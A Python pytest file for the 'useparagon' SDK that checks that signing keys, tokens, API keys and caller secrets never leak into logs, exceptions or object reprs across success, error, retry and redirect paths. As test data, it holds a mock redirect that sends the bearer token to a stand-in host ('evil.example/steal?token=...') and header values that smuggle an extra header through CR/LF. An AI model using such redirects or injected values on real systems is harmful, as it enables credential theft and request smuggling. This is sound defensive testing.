"""The secret canary.

The signing key, every user token the client minted or was given, the project API key (Task History), secrets a caller
put in a proxy query value, a header and a body, and the provider token Paragon sends as ``accountAuth`` are seeded
through every path a call can take: success, 400, 401 with the server echoing the
Authorization header, 404, 429, 500, timeouts, connection errors, retry exhaustion, a 200 that breaks the spec and a
redirect. With ``PARAGON_LOG=debug`` and every logger at DEBUG, none of them may appear in a log record, in the
``str()``/``repr()``/traceback of any exception raised, or in the ``repr()`` of any public object.
"""

from __future__ import annotations

import logging
import time
import traceback
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import jwt
import pytest
from cryptography.hazmat.primitives.asymmetric import rsa
from useparagon import (
    APIConnectionError,
    APIResponseValidationError,
    APIStatusError,
    APITimeoutError,
    AuthenticationError,
    BadRequestError,
    InternalServerError,
    InvalidRequestError,
    NotFoundError,
    ParagonError,
    RetryPolicy,
)
from useparagon._logging import logger as paragon_logger
from useparagon._signing import TokenSigner, load_signing_key
from useparagon._tokens import GivenToken, MintedToken

from tests.support import PROJECT_ID, Harness, MakeHarness, json_response

# A base64 run this long taken from the key or a token signature is treated as a leak.
WINDOW = 16
QUERY_SECRET = "QUERY-CANARY-7f3a9c"
HEADER_SECRET = "HEADER-CANARY-51be02"
BODY_SECRET = "BODY-CANARY-c4d8e1"
# The provider's access token in get_integration_account's answer (accountAuth): Paragon's secret, not the caller's.
ACCOUNT_SECRET = "ya29.ACCOUNT-CANARY-9d2b77"
CALLER_SECRETS = (QUERY_SECRET, HEADER_SECRET, BODY_SECRET, ACCOUNT_SECRET)
# The project API key: a credential like the tokens (checked in every logger's records, httpx's too).
API_KEY_SECRET = "sk_APIKEY-CANARY-0b6e3d9a1f"
FAST_RETRIES = RetryPolicy(initial_delay=0.0)


@pytest.fixture
def debug_logging(monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture) -> Iterator[None]:
    """``PARAGON_LOG=debug`` for the clients built in the test, every relevant logger at DEBUG, and the
    ``useparagon`` logger's handlers and level restored afterwards (the env var makes the client add one)."""
    handlers, level = list(paragon_logger.handlers), paragon_logger.level
    monkeypatch.setenv("PARAGON_LOG", "debug")
    for name in (None, "useparagon", "httpx", "httpcore"):
        caplog.set_level(logging.DEBUG, logger=name)
    yield
    paragon_logger.handlers[:] = handlers
    paragon_logger.setLevel(level)


class Canary:
    """Finds any of the seeded secrets in a text.

    The key is found by any ``WINDOW``-character run of its base64 body (so a line of the PEM, or a truncated
    preview of it, counts); a token by itself or any ``WINDOW``-character run of its signature.
    """

    def __init__(self, pem: str) -> None:
        body = "".join(line for line in pem.splitlines() if line and not line.startswith("-----"))
        self._key_windows = _windows(body)
        self._token_windows: set[str] = set()
        self.tokens: set[str] = set()

    def add_token(self, token: str) -> None:
        self.tokens.add(token)
        self._token_windows |= _windows(token.rsplit(".", 1)[-1])

    def found(self, text: str, *, caller_secrets: bool = True) -> list[str]:
        """What leaked into ``text``: "key", "token", or a caller secret."""
        found: list[str] = []
        runs = {text[i : i + WINDOW] for i in range(len(text) - WINDOW + 1)}
        if runs & self._key_windows:
            found.append("key")
        if runs & self._token_windows or any(token in text for token in self.tokens):
            found.append("token")
        if caller_secrets:
            found.extend(secret for secret in CALLER_SECRETS if secret in text)
        return found


def _windows(text: str) -> set[str]:
    return {text[i : i + WINDOW] for i in range(len(text) - WINDOW + 1)}


def _record_texts(record: logging.LogRecord) -> list[str]:
    texts = [record.getMessage(), repr(record.args), record.msg if isinstance(record.msg, str) else repr(record.msg)]
    if record.exc_info:
        texts.append(logging.Formatter().formatException(record.exc_info))
    if record.exc_text:
        texts.append(record.exc_text)
    if record.stack_info:
        texts.append(record.stack_info)
    return texts


def _exception_texts(error: BaseException) -> list[str]:
    """``str``, ``repr`` and the full traceback (with its ``__cause__``/``__context__`` chain) of an exception."""
    return [str(error), repr(error), repr(error.args), "".join(traceback.format_exception(error))]


def assert_no_leaks(
    canary: Canary, caplog: pytest.LogCaptureFixture, errors: list[BaseException], objects: list[object]
) -> None:
    """Every record, exception and repr is free of every secret (httpx's own logger: free of the key and tokens;
    it prints full URLs, query strings included, and its configuration is the application's)."""
    leaks: list[str] = []
    for record in caplog.records:
        ours = record.name == "useparagon" or record.name.startswith("useparagon.")
        for text in _record_texts(record):
            for what in canary.found(text, caller_secrets=ours):
                leaks.append(f"{what} in a {record.name} record: {text[:200]!r}")
    for error in errors:
        for text in _exception_texts(error):
            for what in canary.found(text):
                leaks.append(f"{what} in {type(error).__name__}: {text[:200]!r}")
    for value in objects:
        for text in (repr(value), str(value)):
            for what in canary.found(text):
                leaks.append(f"{what} in repr of {type(value).__name__}: {text[:200]!r}")
    assert leaks == []


# ---------------------------------------------------------------------------------------------------------------------
# The server: a success response per route, and the failure scenarios


def _bare_token(request: httpx.Request) -> str:
    return str(request.headers.get("authorization", "")).removeprefix("Bearer ")


def _ok(request: httpx.Request) -> httpx.Response:
    path = request.url.path
    if path.endswith("/sdk/me"):
        return json_response(200, {"authenticated": True, "userId": "user-123", "integrations": {}})
    if "/sdk/proxy/" in path:
        return json_response(200, {"output": {"ok": True}}, **{"x-request-id": "req-ok"})
    if path.endswith("/sdk/credentials") and "integration" in request.url.params:
        return json_response(200, ACCOUNT)
    return json_response(200, {})


ACCOUNT = {
    "id": "int-gd",
    "type": "googledrive",
    "isActive": True,
    "configs": [],
    "workflows": [],
    "accountAuth": {"OAUTH_ACCESS_TOKEN": ACCOUNT_SECRET, "DOMAIN": "example.com"},
}


Outcome = Callable[[httpx.Request, int], httpx.Response]


def _bad_request(request: httpx.Request, attempt: int) -> httpx.Response:
    errors = [{"property": "token", "constraints": {"isJwt": f"{_bare_token(request)} is not a valid JWT"}}]
    return json_response(400, {"message": errors, "statusCode": 400})


def _unauthorized_echo(request: httpx.Request, attempt: int) -> httpx.Response:
    # A badly behaved server (or gateway) echoing the credential back in its body and a header.
    auth = request.headers["authorization"]
    return httpx.Response(
        401,
        json={"message": f"Invalid Authorization header: {auth}", "request": {"headers": {"authorization": auth}}},
        headers={"www-authenticate": f'Bearer error="invalid_token" token="{_bare_token(request)}"'},
    )


def _not_found(request: httpx.Request, attempt: int) -> httpx.Response:
    return json_response(404, {"message": "Not found", "token": _bare_token(request)}, **{"x-request-id": "req-404"})


def _rate_limited_then_ok(request: httpx.Request, attempt: int) -> httpx.Response:
    if attempt == 0:
        return json_response(429, {"message": f"slow down {_bare_token(request)}"}, **{"retry-after-ms": "1"})
    return _ok(request)


def _server_error_then_ok(request: httpx.Request, attempt: int) -> httpx.Response:
    if attempt == 0:
        html = f"<html><body><h1>500</h1><pre>Authorization: {request.headers['authorization']}</pre></body></html>"
        return httpx.Response(500, text=html, headers={"content-type": "text/html"})
    return _ok(request)


def _timeout(request: httpx.Request, attempt: int) -> httpx.Response:
    raise httpx.ReadTimeout("timed out", request=request)


def _connection_error(request: httpx.Request, attempt: int) -> httpx.Response:
    raise httpx.ConnectError("connection refused", request=request)


def _always_unavailable(request: httpx.Request, attempt: int) -> httpx.Response:
    body = {"message": "unavailable", "echo": request.headers["authorization"]}
    return json_response(503, body, **{"retry-after-ms": "1"})


def _off_spec_200(request: httpx.Request, attempt: int) -> httpx.Response:
    return json_response(200, {"unexpected": _bare_token(request)})


def _redirect(request: httpx.Request, attempt: int) -> httpx.Response:
    return httpx.Response(302, headers={"location": f"https://evil.example/steal?token={_bare_token(request)}"})


# name: (outcome, error of a GET on the SDK API, error of a proxied POST)
SCENARIOS: dict[str, tuple[Outcome, type[ParagonError] | None, type[ParagonError] | None]] = {
    "success": (lambda request, attempt: _ok(request), None, None),
    "400": (_bad_request, BadRequestError, BadRequestError),
    "401 echoing the token": (_unauthorized_echo, AuthenticationError, AuthenticationError),
    "404": (_not_found, NotFoundError, NotFoundError),
    "429 then success": (_rate_limited_then_ok, None, None),
    "500 then success": (_server_error_then_ok, None, InternalServerError),
    "timeout": (_timeout, APITimeoutError, APITimeoutError),
    "connection error": (_connection_error, APIConnectionError, APIConnectionError),
    "retry exhaustion": (_always_unavailable, InternalServerError, InternalServerError),
    # The proxy's answer without "output" is the provider's body as it is (as the JS SDK reads it), not an error.
    "200 off the spec": (_off_spec_200, APIResponseValidationError, None),
    "redirect": (_redirect, APIStatusError, APIStatusError),
}


def _server(outcome: Outcome) -> Callable[[httpx.Request], httpx.Response]:
    """A handler that tells ``outcome`` how many times this method and path were requested before."""
    seen: dict[tuple[str, str], int] = {}

    def handler(request: httpx.Request) -> httpx.Response:
        key = (request.method, request.url.path)
        attempt = seen.get(key, 0)
        seen[key] = attempt + 1
        return outcome(request, attempt)

    return handler


def _given_token(key: rsa.RSAPrivateKey) -> str:
    """A token signed elsewhere (by the caller's own backend), still valid for an hour."""
    now = int(time.time())
    claims = {"sub": "given-user", "aud": f"useparagon.com/{PROJECT_ID}", "iat": now, "exp": now + 3600}
    return jwt.encode(claims, key, algorithm="RS256")


def _attempt(harness: Harness, call: Callable[[], Any], errors: list[BaseException]) -> type[BaseException] | None:
    """Run one call (a sync call runs when made, so it is passed unmade); keep what it raised and return its class."""
    try:
        harness.run(call())
    except ParagonError as error:
        errors.append(error)
        return type(error)
    return None


# ---------------------------------------------------------------------------------------------------------------------
# Tests


def test_the_canary_finds_each_secret(rsa_pem: str, rsa_key: rsa.RSAPrivateKey) -> None:
    """The detector itself can fail: it finds the PEM, one line of it, a token, a truncated token signature and
    each caller secret, and finds nothing in innocent text."""
    canary = Canary(rsa_pem)
    token = _given_token(rsa_key)
    canary.add_token(token)
    key_line = rsa_pem.splitlines()[5]
    signature = token.rsplit(".", 1)[1]
    assert canary.found(rsa_pem) == ["key"]
    assert canary.found(rsa_pem.replace("\n", "\\n")) == ["key"]
    assert canary.found(f"message: {key_line[10:30]}…") == ["key"]
    assert canary.found(f"Bearer {token}") == ["token"]
    assert canary.found(f"sig={signature[:WINDOW]}") == ["token"]
    assert canary.found(f"?q={QUERY_SECRET}&h={HEADER_SECRET}&b={BODY_SECRET}&a={ACCOUNT_SECRET}") == list(
        CALLER_SECRETS
    )
    assert canary.found(f"?q={QUERY_SECRET}", caller_secrets=False) == []
    assert canary.found("GET /projects/{projectId}/sdk/me -> 200 in 1.0 ms (attempt 1, request id req-1)") == []


@pytest.mark.parametrize("scenario", list(SCENARIOS))
@pytest.mark.usefixtures("debug_logging")
def test_no_secret_leaks_on_any_path(
    scenario: str,
    make_harness: MakeHarness,
    rsa_pem: str,
    rsa_key: rsa.RSAPrivateKey,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """Each path (success, errors, retries) with DEBUG logging: the key, the minted and given tokens, the API key and
    the caller's query, header and body secrets appear in no log record, exception or repr."""
    outcome, get_error, post_error = SCENARIOS[scenario]
    harness = make_harness(_server(outcome), retry=FAST_RETRIES, api_key=API_KEY_SECRET)
    client, minted = harness.client, harness.session
    given_token = _given_token(rsa_key)
    given = client.authenticate(user_token=given_token)
    errors: list[BaseException] = []

    assert _attempt(harness, minted.get_user, errors) is get_error
    assert _attempt(harness, given.get_user, errors) is get_error

    def proxied() -> Any:
        return minted.request(
            "slack",
            "chat.postMessage",
            method="POST",
            params={"api_key": QUERY_SECRET},
            headers={"X-Api-Key": HEADER_SECRET},
            body={"text": BODY_SECRET},
        )

    assert _attempt(harness, proxied, errors) is post_error
    _attempt(harness, lambda: given.event("Contact Created", {"secret": BODY_SECRET}), errors)
    _attempt(harness, lambda: minted.request("slack", "files/1", raw=True), errors)
    accounts: list[object] = []
    _attempt(
        harness,
        lambda: accounts.append(harness.run(minted.get_integration_account("googledrive", include_account_auth=True))),
        errors,
    )
    # Task History, with the API key: a GET, and a POST (the replay) that the failing scenarios do not retry.
    _attempt(harness, lambda: client.list_workflow_executions(user_id="user-123"), errors)
    _attempt(harness, lambda: client.replay_workflow_execution("ex-1"), errors)
    assert any(_bare_token(request) == API_KEY_SECRET for request in harness.requests)
    signed = client.sign_user_token("frontend-user")

    canary = Canary(rsa_pem)
    for token in [given_token, signed, API_KEY_SECRET, *(_bare_token(request) for request in harness.requests)]:
        canary.add_token(token)
    assert given_token in canary.tokens
    assert len(canary.tokens) >= 3  # the minted session's, the given one and the signed one
    assert caplog.records, "DEBUG logging produced no records, so the check below would prove nothing"
    signer = client._signer
    assert signer is not None
    objects: list[object] = [
        client,
        client.with_options(max_retries=0),
        minted,
        given,
        signer,
        client.retry,
        client.timeout,
        client.urls,
        MintedToken(signer, "user-123"),
        GivenToken(given_token),
        *accounts,
    ]
    assert_no_leaks(canary, caplog, errors, objects)


@pytest.mark.usefixtures("debug_logging")
def test_reprs_after_the_token_is_minted_show_no_secret(
    make_harness: MakeHarness, rsa_pem: str, caplog: pytest.LogCaptureFixture
) -> None:
    """A signer and a token source that have signed (so hold a cached token) and a raw response: no secret in
    their reprs; the key is held by the signer, not shown."""
    signer = TokenSigner(key=load_signing_key(rsa_pem), project_id=PROJECT_ID)
    source = MintedToken(signer, "user-123")
    token = source.get().reveal()
    harness = make_harness(lambda request: httpx.Response(200, content=b"%PDF-1.7 " + token.encode()))
    raw = harness.run(harness.session.request("gdrive", "files/1/download", raw=True))
    assert raw.content.endswith(token.encode())
    canary = Canary(rsa_pem)
    canary.add_token(token)
    canary.add_token(_bare_token(harness.requests[0]))
    assert source.mint_count == 1
    assert_no_leaks(canary, caplog, [], [signer, source, raw, harness.session, harness.client])


# A caller secret inside input that is rejected before any I/O: the message names the parameter, never the value.
REJECTED_WITH_SECRETS: list[tuple[str, dict[str, Any]]] = [
    ("header value with CR/LF", {"headers": {"X-Api-Key": f"{HEADER_SECRET}\r\nX-Evil: 1"}}),
    ("header value with NUL", {"headers": {"X-Api-Key": f"{HEADER_SECRET}\x00"}}),
    ("header value not ASCII", {"headers": {"X-Api-Key": f"{HEADER_SECRET}é"}}),
    ("header value padded", {"headers": {"X-Api-Key": f" {HEADER_SECRET}"}}),
    ("header that is reserved", {"headers": {"Authorization": f"Bearer {HEADER_SECRET}"}}),
    ("query value NaN beside a secret", {"params": {"api_key": QUERY_SECRET, "n": float("nan")}}),
    ("query value with lone surrogate", {"params": {"api_key": f"{QUERY_SECRET}\ud800"}}),
    ("query value None", {"params": {"api_key": QUERY_SECRET, "cursor": None}}),
    ("body with NaN beside a secret", {"method": "POST", "body": {"text": BODY_SECRET, "n": float("nan")}}),
    ("body with a set", {"method": "POST", "body": {"text": BODY_SECRET, "tags": {BODY_SECRET}}}),
    ("body with lone surrogate", {"method": "POST", "body": {"text": f"{BODY_SECRET}\udc00"}}),
    ("GET with a body", {"method": "GET", "body": {"text": BODY_SECRET}}),
    ("credential id with CR/LF", {"credential_id": f"{HEADER_SECRET}\r\n"}),
]


@pytest.mark.parametrize(("case", "kwargs"), REJECTED_WITH_SECRETS, ids=[case for case, _ in REJECTED_WITH_SECRETS])
@pytest.mark.usefixtures("debug_logging")
def test_rejected_caller_secrets_are_not_echoed(
    case: str,
    kwargs: dict[str, Any],
    make_harness: MakeHarness,
    rsa_pem: str,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """Proxy input rejected before I/O: the InvalidRequestError and the log carry none of the caller's secrets."""
    harness = make_harness(_ok)
    with pytest.raises(InvalidRequestError) as caught:
        harness.run(harness.session.request("slack", "chat.postMessage", **kwargs))
    assert harness.requests == []
    assert_no_leaks(Canary(rsa_pem), caplog, [caught.value], [])


# Answers to get_integration_account that carry the provider token where an error would keep it.
ACCOUNT_FAILURES: dict[str, tuple[Callable[[httpx.Request], httpx.Response], type[ParagonError]]] = {
    "200 off the spec": (
        lambda request: json_response(200, {**ACCOUNT, "configs": "not a list"}),
        APIResponseValidationError,
    ),
    "200 as a list": (lambda request: json_response(200, [ACCOUNT]), APIResponseValidationError),
    "400 echoing the account": (
        lambda request: json_response(400, {"message": "bad", "accountAuth": ACCOUNT["accountAuth"]}),
        BadRequestError,
    ),
    "404 echoing a nested account": (
        lambda request: json_response(404, {"message": "gone", "data": [{"integration": ACCOUNT}]}),
        NotFoundError,
    ),
    "500 as text": (
        lambda request: httpx.Response(500, text=f"<pre>accountAuth: {ACCOUNT_SECRET}</pre>"),
        InternalServerError,
    ),
}


@pytest.mark.parametrize("scenario", list(ACCOUNT_FAILURES))
@pytest.mark.usefixtures("debug_logging")
def test_account_tokens_are_scrubbed_from_errors(
    scenario: str, make_harness: MakeHarness, rsa_pem: str, caplog: pytest.LogCaptureFixture
) -> None:
    """An answer to get_integration_account that fails (off the spec, or an error status echoing the account):
    the provider token is in no message, traceback, log record, nor in the error's ``body``."""
    reply, expected = ACCOUNT_FAILURES[scenario]
    harness = make_harness(reply, retry=RetryPolicy(max_retries=0))
    with pytest.raises(ParagonError) as caught:
        harness.run(harness.session.get_integration_account("googledrive", include_account_auth=True))
    error = caught.value
    assert type(error) is expected
    body = getattr(error, "body", None)
    assert ACCOUNT_SECRET not in repr(body)
    assert_no_leaks(Canary(rsa_pem), caplog, [error], [body])
